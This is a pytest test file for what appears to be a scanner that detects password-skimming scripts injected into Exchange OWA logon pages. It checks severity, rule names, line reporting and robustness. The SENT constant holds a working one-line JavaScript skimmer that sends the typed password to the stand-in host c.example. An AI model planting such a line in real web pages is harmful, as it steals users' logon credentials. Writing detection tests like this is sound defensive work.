"""What a logon page does with passwords; and what ordinary and stock-like pages give."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from exward.model.finding import Confidence
from exward.model.severity import Severity
from exward.model.stage import Stage
from exward.webshells.skimming import page

PAGES: dict[str, dict[str, dict[str, str]]] = yaml.safe_load(
    Path(__file__).with_name("pages.yml").read_text(encoding="utf-8")
)
AUTH = "EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/"
SENT = 'new Image().src = "https://c.example/?" + document.getElementById("password").value'


@pytest.mark.parametrize("name", PAGES["taking"])
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_page_that_takes_passwords(name: str, codec: str) -> None:
    case = PAGES["taking"][name]
    found = page.weigh(AUTH + case["file"], case["text"].encode(codec), "").finding
    assert found is not None
    assert found.rule == f"logon-page-{case['rule']}"
    assert case["why"] in found.why


@pytest.mark.parametrize("name", PAGES["ordinary"])
def test_an_ordinary_page(name: str) -> None:
    case = PAGES["ordinary"][name]
    weighed = page.weigh(AUTH + case["file"], case["text"].encode(), "")
    assert weighed == (None, True)


def test_the_finding_says_what_where_and_how() -> None:
    found = page.weigh(AUTH + "flogon.js", f"\n\n{SENT}".encode(), "ab" * 32).finding
    assert found is not None
    assert (found.stage, found.techniques) == (Stage.CREDENTIAL_ACCESS, ("T1056.003",))
    assert (found.severity, found.confidence) == (Severity.CRITICAL, Confidence.HIGH)
    assert (found.lines, found.evidence[0].position) == ((3,), 3)
    assert found.why == "the page sends what is typed to c.example"
    assert found.sha256 == "ab" * 32


def test_lines_are_those_of_the_page() -> None:
    text = f"<%@ Page %>\n<%-- \n --%>\n<script>\n// first\n{SENT}\n</script>"
    found = page.weigh(AUTH + "logon.aspx", text.encode(), "").finding
    assert found is not None
    assert found.lines == (6,)


def test_other_pages_of_the_site_weigh_less() -> None:
    elsewhere = page.weigh("C/inetpub/wwwroot/shop/a.js", SENT.encode(), "").finding
    assert elsewhere is not None
    assert (elsewhere.severity, elsewhere.confidence) == (Severity.MEDIUM, Confidence.LOW)
    own = SENT.replace("https://c.example", "/shop/login.aspx")
    assert page.weigh("C/inetpub/wwwroot/shop/a.js", own.encode(), "").finding is None


@pytest.mark.parametrize(
    ("path", "answer"),
    [
        (AUTH + "logon.aspx", True),
        (AUTH + "15.2.1118/scripts/premium/x.js", True),
        (AUTH + "15.2.1118/themes/logo.png", False),
        ("x.zip!C/inetpub/wwwroot/aspnet_client/a.html", True),
        ("loose/flogon.js", True),
        ("loose/other.js", False),
        (AUTH.replace("owa/auth/", "ews/") + "x.js", False),
        ("Exchange/ClientAccess/owa/prem/15.2.1/scripts/boot.js", False),
        ("Exchange/ClientAccess/owa/auth/x.js", True),
    ],
)
def test_which_files_are_looked_at(path: str, answer: bool) -> None:
    assert page.concerns(path) is answer


@pytest.mark.parametrize(
    "piece",
    ["<%", "<script ", "<script>", ' onx="', "<form a ", "/*pwd.value", "fetch(pwd", "pwd.value",
     "pwd=a", "{pwd", "pwd[", '"pwd"+', "pwd=/[", "pwd`${", "f(a.password,", "eval('pwd",
     "function a(x){return x.password}a("],
)  # fmt: skip
def test_any_repetition_is_read_to_an_end(piece: str) -> None:
    """What is too much work is said to be so, and never tried."""
    for extension in ("js", "html"):
        page.weigh(f"{AUTH}x.{extension}", (piece * 20_000).encode(), "")


def test_what_is_left_out_is_said() -> None:
    text = SENT + ";x=1" * (page.MAX_BYTES // 4)
    weighed = page.weigh(AUTH + "x.js", text.encode(), "")
    assert weighed.finding is not None
    assert not weighed.is_whole


PIECES = st.sampled_from(
    ["<script>", "</script>", "<%", "%>", "fetch(", '"https://c.example"', "password", ".", "value",
     "=", "+", "(", ")", "{", "}", "[", "]", ";", "\n", "var ", "x", "'", "`", "${", "/", "*",
     "function ", "return ", "=>", "eval", "\\x41", "atob", ","]
)  # fmt: skip


@given(st.lists(PIECES, max_size=40).map("".join), st.sampled_from(["js", "aspx"]))
def test_never_raises(text: str, extension: str) -> None:
    page.weigh(f"{AUTH}x.{extension}", text.encode(), "")
